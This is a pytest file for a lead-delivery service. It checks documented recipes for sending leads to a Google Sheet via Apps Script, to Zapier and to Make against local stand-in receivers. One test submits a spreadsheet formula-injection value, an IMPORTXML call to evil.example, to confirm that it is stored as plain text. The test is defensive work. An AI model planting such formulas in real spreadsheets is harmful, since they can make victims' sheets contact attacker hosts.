"""The recipes of docs/delivery.md, each with the default rules and a stand-in that answers as its receiver does."""

import json
import re
import socket
import subprocess
from urllib.parse import parse_qs, urlsplit

import pytest
from cast import ROOT, Partner, blocks
from playwright._impl._driver import compute_driver_executable
from receiving import Receiver, answer, authority, delivering

import database
from delivery import kinds, outbox
from delivery.parcel import erased
from models import Delivery
from web.destinations import PREFIX
from web.settings import Settings

GUIDE = (ROOT / "docs" / "delivery.md").read_text(encoding="utf-8")
RECIPES = re.findall(r"^### (.+?)\n(.*?)(?=^###? |\Z)", GUIDE[GUIDE.index("## Recipes") :], re.MULTILINE | re.DOTALL)
RECIPES = dict(RECIPES)
DEFAULT = (ROOT / "rules" / "default.yaml").read_text(encoding="utf-8")
KEY = "write something long here"


def rules_of(recipe):
    (text,) = blocks(RECIPES[recipe], "yaml")
    return DEFAULT + text


def settings_of(recipe):
    (text,) = blocks(RECIPES[recipe], "text")
    return dict(line.split("=", 1) for line in text.replace("…", "").splitlines())


@pytest.mark.parametrize("recipe", [name for name, text in RECIPES.items() if "```yaml" in text])
def test_a_recipe_names_a_destination_for_which_it_has_a_setting(make_app, recipe):
    program = make_app(rules_of(recipe)).extensions["datapost"].rulebook.programs["default"]
    assert list(program.deliver) == list(Settings.load(settings_of(recipe)).destinations)


@pytest.fixture
def stand_in(make_app, tmp_path, monkeypatch):
    """Return a function that has somebody answer in the place of a recipe's receiver, and gives a shop that sends."""
    made = []

    def make(recipe, answers):
        (setting, address), *_ = settings_of(recipe).items()
        host, resolve = urlsplit(address).hostname, socket.getaddrinfo
        receiver = Receiver(answers, authority(tmp_path, monkeypatch, host)).__enter__()
        made.append(receiver)
        monkeypatch.setattr(
            socket,
            "getaddrinfo",
            lambda name, *rest, **more: resolve("127.0.0.1" if name == host else name, *rest, **more),
        )
        addresses = {setting.removeprefix(PREFIX).lower(): address.replace(host, f"{host}:{receiver.port}")}
        shop = Partner(make_app(rules_of(recipe), **delivering(**addresses)))
        shop.sender = shop.app.extensions["datapost"].sender
        shop.sender.wake = lambda: None
        return shop, receiver

    yield make
    for receiver in made:
        receiver.__exit__()


def send(shop, **fields):
    """Post a lead, send it, and return its id and what became of it."""
    lead = shop.lead(**{"email": "ann@example.com", "first_name": "Ann"} | fields)["uniqueid"]
    (result,) = shop.sender.run_due()
    return lead, result


# --- A Google sheet ---

# What Apps Script gives a script, as far as this one uses it. As in a sheet, what stands behind a ' is text, and what
# begins with = or + is worked out.
APPS_SCRIPT = r"""
const { script, event, rows } = JSON.parse(require('fs').readFileSync(0));
const cell = text => text.startsWith("'") ? text.slice(1) : /^[=+]/.test(text) ? '#ERROR!' : text;
const find = text => rows.findIndex(row => row[0].toLowerCase() === text.toLowerCase());
const found = at => at < 0 ? null : { getRow: () => at + 1 };
const finder = text => ({ matchEntireCell: () => ({ findNext: () => found(find(text)) }) });
const sheet = {
  getRange: () => ({ createTextFinder: finder }),
  deleteRow: number => rows.splice(number - 1, 1),
  appendRow: cells => rows.push(cells.map(cell)),
};
const given = {
  ContentService: { createTextOutput: text => ({ text }) },
  LockService: { getScriptLock: () => ({ waitLock() {}, releaseLock() {} }) },
  SpreadsheetApp: { getActiveSpreadsheet: () => ({ getSheetByName: () => sheet }), flush() {} },
};
let ran = false;
try {
  ran = new Function(...Object.keys(given), script + '; return doPost')(...Object.values(given))(event).text === 'ok';
} catch (error) {}
console.log(JSON.stringify({ ran, rows }));
"""


class Google:
    """It runs the recipe's script, and answers by a redirect if that ended well, else by a page."""

    def __init__(self):
        self.rows = []
        (self.script,) = blocks(RECIPES["A Google sheet"], "javascript")

    def __call__(self, place, request):
        query = parse_qs(urlsplit(request.line.split(" ")[1]).query)
        event = {"parameter": {name: values[0] for name, values in query.items()}}
        event["postData"] = {"contents": request.body.decode()}
        node = [compute_driver_executable()[0], "-e", APPS_SCRIPT]
        given = json.dumps({"script": self.script, "event": event, "rows": self.rows})
        done = json.loads(subprocess.run(node, input=given, capture_output=True, text=True, check=True).stdout)
        self.rows = done["rows"]
        output = "https://script.googleusercontent.com/macros/echo?user_content_key=x"
        place.sendall(answer(302, Location=output) if done["ran"] else answer(200, b"<title>Error</title>"))


def test_a_sheet_gets_a_row_for_each_lead_once_however_often_it_is_sent(stand_in):
    shop, _ = stand_in("A Google sheet", google := Google())
    lead, result = send(shop, phone="(415) 555-2671")
    assert result == "sent"
    ((key, at, *values),) = google.rows
    assert (key, values) == (lead, ["ann@example.com", "Ann", "+14155552671"])
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT.*Z", at)
    database.transact(lambda: Delivery.update(state="dead").execute())  # as if its answer had been lost
    outbox.again(to="sheet")
    assert shop.sender.run_due() == {"sent": 1}
    assert len(google.rows) == 1


def test_a_value_is_no_formula_in_a_sheet_and_one_that_is_absent_is_empty(stand_in):
    shop, _ = stand_in("A Google sheet", google := Google())
    send(shop, first_name='=IMPORTXML("https://evil.example", "//a")')
    assert google.rows[0][3:] == ['=IMPORTXML("https://evil.example", "//a")', ""]


def test_a_lead_that_is_erased_goes_from_the_sheet(stand_in):
    shop, _ = stand_in("A Google sheet", google := Google())
    (lead, _), _ = send(shop), send(shop, email="bob@example.com")
    settings = shop.app.extensions["datapost"].settings
    assert kinds.send(settings, settings.destinations["sheet"], erased(lead, "sheet")).result == "sent"
    assert [row[2] for row in google.rows] == ["bob@example.com"]


def test_a_script_with_another_key_has_not_taken_the_lead(stand_in):
    google = Google()
    google.script = google.script.replace(KEY, "another key")
    shop, _ = stand_in("A Google sheet", google)
    assert send(shop)[1] == "again"
    assert google.rows == []


def test_a_script_that_not_everybody_may_run_pauses_the_destination(stand_in):
    shop, _ = stand_in("A Google sheet", answer(302, Location="https://accounts.google.com/ServiceLogin"))
    assert send(shop)[1] == "pause"


# --- Zapier and Make ---


def test_a_catch_hook_of_zapier_gets_a_flat_object(stand_in):
    taken = json.dumps({"attempt": "01", "id": "01", "request_id": "01", "status": "success"}).encode()
    shop, receiver = stand_in("Zapier", answer(200, taken, Content_Type="application/json"))
    lead, result = send(shop)
    (request,) = receiver.requests
    assert (result, request.line) == ("sent", "POST /hooks/catch/123456/abcdef/ HTTP/1.1")
    assert json.loads(request.body) == {"id": lead, "email": "ann@example.com", "first_name": "Ann"}


def test_a_catch_hook_that_has_too_much_to_do_gets_the_lead_later(stand_in):
    shop, _ = stand_in("Zapier", answer(429))
    assert send(shop)[1] == "again"


def test_a_webhook_of_make_gets_a_form(stand_in):
    shop, receiver = stand_in("Make", answer(200, b"Accepted"))
    lead, result = send(shop)
    assert result == "sent"
    expected = {"id": [lead], "email": ["ann@example.com"], "first_name": ["Ann"]}
    assert parse_qs(receiver.requests[0].body.decode()) == expected


@pytest.mark.parametrize(("status", "result"), [(400, "dead"), (410, "pause")])
def test_a_webhook_of_make_that_is_full_or_gone_does_as_the_guide_says(stand_in, status, result):
    shop, _ = stand_in("Make", answer(status))
    assert send(shop)[1] == result
    assert re.search(rf"\b{status}\b[^.]*{result}", RECIPES["Make"])
